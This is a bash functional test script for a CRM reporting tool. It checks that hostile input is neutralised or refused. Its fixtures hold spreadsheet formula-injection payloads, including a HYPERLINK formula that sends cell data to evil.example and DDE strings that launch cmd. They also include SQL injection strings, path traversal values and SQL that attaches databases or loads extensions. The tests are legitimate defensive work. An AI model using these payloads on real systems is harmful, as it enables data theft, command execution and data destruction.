#!/usr/bin/env bash
# Hostile input: CRM text is data, never code. Formula injection reaches workbooks as
# strings (read back with openpyxl), burst values cannot leave the output directory, SQL
# metacharacters are stored verbatim (bound, never spliced), template SQL is read-only,
# over-long fields/lines and malicious INI files are refused with a message, and invalid
# UTF-8 is refused or replaced wherever text flows. Expected values come from Python.
source "$KP_ROOT/tests/functional/lib.sh"
source "$KP_ROOT/tests/functional/robust_lib.sh"
B=$TMP/base
mkdir -p "$B"
cp "$KP_ROOT"/sample-data/{opportunities,users,quotas}.csv "$B/"

# A job over the sample exports with one workbook of every CRM text column.
cat >"$B/all-text.ini" <<'EOF'
[document]
kind = xlsx
title = Every text field
[sheet s]
title = Text
[table reps]
sql = SELECT rep_id, name, email, team, region, manager_id FROM reps ORDER BY rep_id
[table opps]
sql = SELECT opp_id, name, account, owner_id, stage, forecast_category, type, lead_source,
    product FROM opportunities ORDER BY opp_id
EOF
cat >"$B/card.ini" <<'EOF'
[document]
kind = pdf
title = Card {rep_id}
[text t]
text = Card for {rep_id}
EOF
cat >"$B/card-x.ini" <<'EOF'
[document]
kind = xlsx
title = Card {rep_id}
[sheet s]
title = Card
[text t]
text = Card for {rep_id}
EOF
write_job() { sample_job "$1" Hostile; } # DIR, report sections on stdin
fresh() { rm -rf "$TMP/$1"; cp -r "$B" "$TMP/$1"; }

# ---- formula injection ----------------------------------------------------------------
fresh inj
$PY - "$TMP/inj" <<'PYEOF'
import csv, sys, os
d = sys.argv[1]
evil = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)',
        "=cmd|' /C calc'!A0", '=1+1', "=DDE(\"cmd\";\"/C calc\";\"x\")"]
def add(name, rows):
    p = os.path.join(d, name)
    old = list(csv.reader(open(p, encoding='utf-8')))
    w = csv.writer(open(p, 'w', encoding='utf-8', newline=''), quoting=csv.QUOTE_ALL)
    w.writerows(old[:1] + rows + old[1:])
# users: User ID, Full Name, Email, Role, Division, Manager ID, Active, Start Date
add('users.csv', [['INJ%d' % i, e, 'inj%d@example.com' % i, e, e, '', '1', '1/1/2024']
                  for i, e in enumerate(evil)])
# opportunities: ID, Name, Account, Owner, Stage, Amount, Prob, Close, Created, Forecast
# Category, Type, Lead Source, Product; the owner is a rep added above, by name.
add('opportunities.csv', [['006INJ%d' % i, e, e, evil[0], 'Prospecting', '$1,000.00', '10',
                           '10/15/2026', '10/1/2026', e, e, e, e] for i, e in enumerate(evil)])
open(os.path.join(d, 'evil.txt'), 'w').write('\n'.join(evil) + '\n')
PYEOF
write_job "$TMP/inj" <<'EOF'
[report all]
template = all-text.ini
output = all.xlsx
EOF
expect_exit 0 "formula-looking CRM text loads and renders" "$KP_BIN" run "$TMP/inj/job.ini" --quiet
check "every formula-looking text field is a string cell, never a formula (openpyxl)" \
    $PY - "$TMP/inj/out/all.xlsx" "$TMP/inj/evil.txt" <<'PYEOF'
import sys, openpyxl
evil = set(open(sys.argv[2]).read().split('\n')) - {''}
wb = openpyxl.load_workbook(sys.argv[1])
seen = {}
for ws in wb:
    for row in ws.iter_rows():
        for c in row:
            assert c.data_type != 'f', ('formula cell', ws.title, c.coordinate, c.value)
            if c.value in evil:
                assert c.data_type == 's', (c.coordinate, c.data_type)
                seen[c.value] = seen.get(c.value, 0) + 1
# reps: name, team, region (3 columns); opps: name, account, forecast category, type,
# lead source, product (6 columns); evil[0] is also the owner's name, not a column here.
assert set(seen) == evil, evil - set(seen)
assert sum(seen.values()) == 9 * len(evil), seen
PYEOF

# ---- path traversal and reserved names in burst values ---------------------------------
fresh trav
long=$(printf 'x%.0s' $(seq 300))
write_job "$TMP/trav" <<EOF
[report cards]
template = card.ini
burst = SELECT '../../etc/x' AS rep_id UNION ALL SELECT 'CON' UNION ALL SELECT ''
  UNION ALL SELECT 'con.txt' UNION ALL SELECT '.hidden'
  UNION ALL SELECT 'a/b\\c' UNION ALL SELECT 'LPT1' UNION ALL SELECT 'NUL '
  UNION ALL SELECT '/abs' UNION ALL SELECT '$long' ORDER BY 1
output = cards/{rep_id}.pdf
EOF
expect_exit 0 "burst with ../../etc/x, CON, empty, 300-byte values renders" \
    "$KP_BIN" run "$TMP/trav/job.ini" --quiet
check "every burst document lands inside output_dir/cards under a sanitised name" \
    $PY - "$TMP/trav" <<'PYEOF'
import os, sys
d = sys.argv[1]
want = sorted(['_.._etc_x.pdf', '_CON.pdf', '_.pdf', '_con.txt.pdf', 'hidden.pdf', 'a_b_c.pdf',
               '_LPT1.pdf', '_NUL.pdf', '_abs.pdf', 'x' * 100 + '.pdf'])
got = sorted(os.listdir(os.path.join(d, 'out', 'cards')))
everything = sorted(os.path.relpath(os.path.join(r, f), d) for r, _, fs in os.walk(d) for f in fs)
outside = [p for p in everything if not p.startswith(('out/', 'db/')) and p not in
           ('job.ini', 'card.ini', 'card-x.ini', 'all-text.ini', 'opportunities.csv', 'users.csv',
            'quotas.csv')]
assert not outside, outside
assert got == want, (got, want)
PYEOF
# Two values that sanitise to one name must not overwrite each other.
fresh clash
write_job "$TMP/clash" <<'EOF'
[report cards]
template = card.ini
burst = SELECT '' AS rep_id UNION ALL SELECT '..' ORDER BY 1
output = cards/{rep_id}.pdf
EOF
expect_exit 2 "burst values that sanitise to one file name: exit 2" "$KP_BIN" run "$TMP/clash/job.ini" --quiet
expect_stderr "two documents would be written to $TMP/clash/out/cards/_.pdf: make the output pattern unique" \
    "clash message names the file"
# A file name the pattern itself makes too long (its temporary would exceed NAME_MAX).
fresh longname
lname=$(printf 'n%.0s' $(seq 210))
write_job "$TMP/longname" <<EOF
[report cards]
template = card.ini
burst = SELECT 'a' AS rep_id
output = $lname-{rep_id}.pdf
EOF
expect_exit 3 "an output file name over 200 bytes: exit 3" "$KP_BIN" run "$TMP/longname/job.ini" --quiet
expect_stderr "kpipress: $TMP/longname/out/$lname-a.pdf: file name longer than 200 bytes: shorten the output pattern" \
    "long file name message"

# ---- SQL metacharacters in every CRM text field ----------------------------------------
fresh sqli
$PY - "$TMP/sqli" <<'PYEOF'
import csv, sys, os, json
d = sys.argv[1]
meta = ["'; DROP TABLE reps; --", 'x" OR ""="', "Robert'); DROP TABLE opportunity_snapshots;--",
        'back\\slash', '100% _match_', '?1 :a @b $c ?', "'' OR 1=1", '/* c */ -- d', 'a;b']
def add(name, rows):
    p = os.path.join(d, name)
    old = list(csv.reader(open(p, encoding='utf-8')))
    w = csv.writer(open(p, 'w', encoding='utf-8', newline=''), quoting=csv.QUOTE_ALL)
    w.writerows(old[:1] + rows + old[1:])
reps = [['Q%d%s' % (i, m), 'N' + m, 'q%d@example.com' % i, 'T' + m, 'R' + m, '', '1', '1/1/2024']
        for i, m in enumerate(meta)]
add('users.csv', reps)
opps = [['006Q%d%s' % (i, m), 'O' + m, 'A' + m, 'N' + meta[0], 'Prospecting', '$5.00', '10',
         '10/15/2026', '10/1/2026', 'F' + m, 'Y' + m, 'L' + m, 'P' + m] for i, m in enumerate(meta)]
add('opportunities.csv', opps)
json.dump({'reps': reps, 'opps': opps}, open(os.path.join(d, 'expected.json'), 'w'))
PYEOF
write_job "$TMP/sqli" </dev/null
expect_exit 0 "CRM fields full of SQL metacharacters load" "$KP_BIN" load "$TMP/sqli/job.ini" --quiet
check "every such field is stored verbatim; no table dropped (sqlite3 CLI)" \
    $PY - "$TMP/sqli" <<'PYEOF'
import json, os, subprocess, sys
d = sys.argv[1]
exp = json.load(open(os.path.join(d, 'expected.json')))
db = os.path.join(d, 'db', 't.db')
def q(sql):
    return subprocess.run(['sqlite3', '-json', db, sql], capture_output=True, text=True,
                          check=True).stdout or '[]'
reps = {r['rep_id']: r for r in json.loads(q("SELECT rep_id, name, team, region FROM reps"))}
for rid, name, _, team, region, *_ in exp['reps']:
    r = reps[rid]
    assert (r['name'], r['team'], r['region']) == (name, team, region), r
opps = {r['opp_id']: r for r in json.loads(q(
    "SELECT opp_id, name, account, owner_id, forecast_category, type, lead_source, product"
    " FROM opportunities"))}
for oid, name, acct, _, _, _, _, _, _, fc, typ, ls, prod in exp['opps']:
    o = opps[oid]
    assert (o['name'], o['account'], o['forecast_category'], o['type'], o['lead_source'],
            o['product']) == (name, acct, fc, typ, ls, prod), o
    assert o['owner_id'] == exp['reps'][0][0], o
tables = {r['name'] for r in json.loads(q("SELECT name FROM sqlite_master"))}
assert {'reps', 'quotas', 'opportunity_snapshots', 'runs', 'dq_issues'} <= tables, tables
PYEOF

# ---- template and burst SQL that writes, attaches or sets a pragma is refused ----------
fresh ro
n=0
for sql in "DELETE FROM reps" "INSERT INTO reps(rep_id, name) VALUES ('x', 'y')" \
    "UPDATE reps SET name = 'x'" "DROP TABLE reps" "CREATE TABLE t(x)" \
    "ATTACH DATABASE '$TMP/ro/evil.db' AS evil" "PRAGMA journal_mode = DELETE" \
    "PRAGMA writable_schema = ON" "VACUUM INTO '$TMP/ro/copy.db'" \
    "WITH x AS (SELECT 1) DELETE FROM reps" "SELECT load_extension('/tmp/evil.so')"; do
    n=$((n + 1))
    printf '[document]\nkind = xlsx\n[sheet s]\ntitle = S\n[table t]\nsql = %s\n' "$sql" >"$TMP/ro/w$n.ini"
    write_job "$TMP/ro" <<EOF
[report w]
template = w$n.ini
output = w.xlsx
EOF
    expect_exit 2 "template SQL refused: $sql" "$KP_BIN" run "$TMP/ro/job.ini" --quiet
    case $sql in
    *load_extension*) expect_stderr "w$n.ini:6: SQL error: not authorized to use function: load_extension" "message: $sql" ;;
    *) expect_stderr "w$n.ini:6: SQL refused: template SQL is read-only" "message: $sql" ;;
    esac
done
check "refused SQL changed nothing: no evil.db, no copy.db, reps intact" \
    test ! -e "$TMP/ro/evil.db" -a ! -e "$TMP/ro/copy.db" -a \
    "$(sqlite3 "$TMP/ro/db/t.db" 'SELECT count(*) FROM reps')" = 51
write_job "$TMP/ro" <<'EOF'
[report cards]
template = card.ini
burst = DELETE FROM reps RETURNING rep_id
output = c/{rep_id}.pdf
EOF
expect_exit 2 "burst SQL that writes is refused" "$KP_BIN" run "$TMP/ro/job.ini" --quiet
expect_stderr "job.ini:18: SQL refused: template SQL is read-only" "burst refusal names the job line"
expect_exit 2 "kpipress sql refuses a write" "$KP_BIN" sql "$TMP/ro/job.ini" "DELETE FROM reps"
expect_stderr "SQL refused: template SQL is read-only" "kpipress sql refusal message"

# ---- extremely long fields and lines -------------------------------------------------------
fresh long
$PY - "$TMP/long" <<'PYEOF'
import csv, sys, os
d = sys.argv[1]
p = os.path.join(d, 'users.csv')
old = list(csv.reader(open(p, encoding='utf-8')))
w = csv.writer(open(p, 'w', encoding='utf-8', newline=''), quoting=csv.QUOTE_ALL)
w.writerows(old[:1] + [['LONG1', 'L' * 40000, 'l@example.com', 'T', 'R', '', '1', '1/1/2024']] + old[1:])
PYEOF
write_job "$TMP/long" <<'EOF'
[report all]
template = all-text.ini
output = all.xlsx
EOF
expect_exit 0 "a 40,000-byte name loads and renders" "$KP_BIN" run "$TMP/long/job.ini" --quiet
check "the workbook cell is cut to Excel's 32,767-character limit, still a string" \
    $PY - "$TMP/long/out/all.xlsx" <<'PYEOF'
import sys, openpyxl
ws = openpyxl.load_workbook(sys.argv[1]).active
cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith('LLLL')]
assert len(cells) == 1 and cells[0].data_type == 's'
assert 30000 < len(cells[0].value) <= 32767, len(cells[0].value)
PYEOF
fresh long2
$PY - "$TMP/long2/users.csv" <<'PYEOF'
import sys
with open(sys.argv[1], 'a', encoding='utf-8') as f:
    f.write('"LONG2","' + 'L' * 70000 + '","l@example.com","T","R","","1","1/1/2024"\n')
PYEOF
write_job "$TMP/long2" </dev/null
expect_exit 1 "a 70,000-byte CSV field is refused" "$KP_BIN" load "$TMP/long2/job.ini" --quiet
expect_stderr "users.csv:53:2: field 2 is longer than the limit of 65536 bytes" "long field message names line and column"
fresh wide
$PY - "$TMP/wide/users.csv" <<'PYEOF'
import sys
with open(sys.argv[1], 'a', encoding='utf-8') as f:
    f.write(','.join('c%d' % i for i in range(2000)) + '\n')
PYEOF
write_job "$TMP/wide" </dev/null
expect_exit 1 "a 2,000-column CSV row is refused" "$KP_BIN" load "$TMP/wide/job.ini" --quiet
expect_stderr "users.csv:53:1025: row has more than 1024 fields (the limit)" "wide row message names the line"

# ---- malicious INI ---------------------------------------------------------------------------
fresh ini
write_job "$TMP/ini" </dev/null
{ head -2 "$TMP/ini/job.ini"; printf 'name = %s\n' "$(printf 'n%.0s' $(seq 5000))"; tail -n +3 "$TMP/ini/job.ini"; } >"$TMP/ini/longline.ini"
expect_exit 2 "a 5,000-character job line is refused" "$KP_BIN" check "$TMP/ini/longline.ini"
expect_stderr "longline.ini:3: line longer than 4096 characters" "long line message"
$PY - "$TMP/ini" <<'PYEOF'
import sys, os
d = sys.argv[1]
base = open(os.path.join(d, 'job.ini')).read()
# A value of 20 x 4,000 characters on continuation lines (80,000 > 65,536).
open(os.path.join(d, 'huge.ini'), 'w').write(base + '[report h]\ntemplate = card.ini\noutput = h/{rep_id}.pdf\nburst = SELECT 1 AS rep_id\n' + ''.join('  -- ' + 'v' * 4000 + '\n' for _ in range(20)))
open(os.path.join(d, 'sections.ini'), 'w').write(base + ''.join('[report r%d]\ntemplate = card.ini\noutput = r%d.pdf\n' % (i, i) for i in range(10000)))
open(os.path.join(d, 'repeat.ini'), 'w').write(base.replace('name = Hostile', 'name = Hostile\n' + 'name = again\n' * 10000))
open(os.path.join(d, 'tsections.ini'), 'w').write('[document]\nkind = pdf\n' + ''.join('[text t%d]\ntext = x\n' % i for i in range(10000)))
PYEOF
expect_exit 2 "a value over 65,536 bytes (continuation lines) is refused" "$KP_BIN" check "$TMP/ini/huge.ini"
expect_stderr "huge.ini:36: value of burst longer than 65536 bytes" "huge value message gives line and limit"
expect_exit 2 "10,000 sections are refused" "$KP_BIN" check "$TMP/ini/sections.ini"
expect_stderr "sections.ini:208: more than 64 reports" "sections message gives the limit"
expect_exit 2 "a key repeated 10,000 times is refused at the first repeat" "$KP_BIN" check "$TMP/ini/repeat.ini"
expect_stderr "repeat.ini:3: name: duplicate key" "repeated key message names line 3"
write_job "$TMP/ini" <<'EOF'
[report t]
template = tsections.ini
output = t.pdf
EOF
expect_exit 2 "a template with 10,000 sections is refused" "$KP_BIN" check "$TMP/ini/job.ini"
expect_stderr "tsections.ini:2003: more than 1000 blocks" "template sections message gives the limit"

# ---- invalid UTF-8 wherever text flows -----------------------------------------------------
fresh u8
printf '"BAD1","Bad \xff\xfe Name","bad@example.com","Rep","Div","","1","1/1/2024"\n' >>"$TMP/u8/users.csv"
write_job "$TMP/u8" </dev/null
expect_exit 1 "invalid UTF-8 in a CSV field: exit 1" "$KP_BIN" load "$TMP/u8/job.ini" --quiet
expect_stderr "users.csv:53:2: invalid UTF-8 in field 2; if the file was saved by Excel on Windows, set \`encoding = cp1252\` in [source reps] or save it as CSV UTF-8" \
    "CSV message names line, column and the fix"
fresh u8job
write_job "$TMP/u8job" </dev/null
sed -i 's/^name = Hostile/name = Hostile \xff\xfe/' "$TMP/u8job/job.ini"
expect_exit 2 "invalid UTF-8 in a job value: exit 2" "$KP_BIN" check "$TMP/u8job/job.ini"
expect_stderr "job.ini:2: invalid UTF-8 (save the file as UTF-8)" "job message names the line"
fresh u8tpl
printf '[text t]\ntext = bad \xc3\x28 text\n' >>"$TMP/u8tpl/all-text.ini"
write_job "$TMP/u8tpl" <<'EOF'
[report all]
template = all-text.ini
output = all.xlsx
EOF
expect_exit 2 "invalid UTF-8 in template text: exit 2" "$KP_BIN" check "$TMP/u8tpl/job.ini"
expect_stderr "all-text.ini:12: invalid UTF-8 (save the file as UTF-8)" "template message names the line"
fresh u8sql
write_job "$TMP/u8sql" <<'EOF'
[report pdf]
template = card.ini
burst = SELECT CAST(x'41ff42' AS TEXT) AS rep_id
output = bad/{rep_id}.pdf
[report xlsx]
template = card-x.ini
burst = SELECT CAST(x'43ff44' AS TEXT) AS rep_id
output = bad/{rep_id}.xlsx
EOF
expect_exit 0 "invalid UTF-8 made by SQL (burst values) renders" "$KP_BIN" run "$TMP/u8sql/job.ini" --quiet
check "...with U+FFFD in the file names and the workbook text (openpyxl)" $PY - "$TMP/u8sql/out/bad" <<'PYEOF'
import os, sys, openpyxl
d = sys.argv[1].encode()
names = sorted(os.listdir(d))
assert names == [b'A\xef\xbf\xbdB.pdf', b'C\xef\xbf\xbdD.xlsx'], names
ws = openpyxl.load_workbook(os.path.join(d, names[1]).decode()).active
texts = [c.value for row in ws.iter_rows() for c in row if c.value]
assert 'Card for C\ufffdD' in texts, texts
PYEOF
echo "1..$_tap_n"
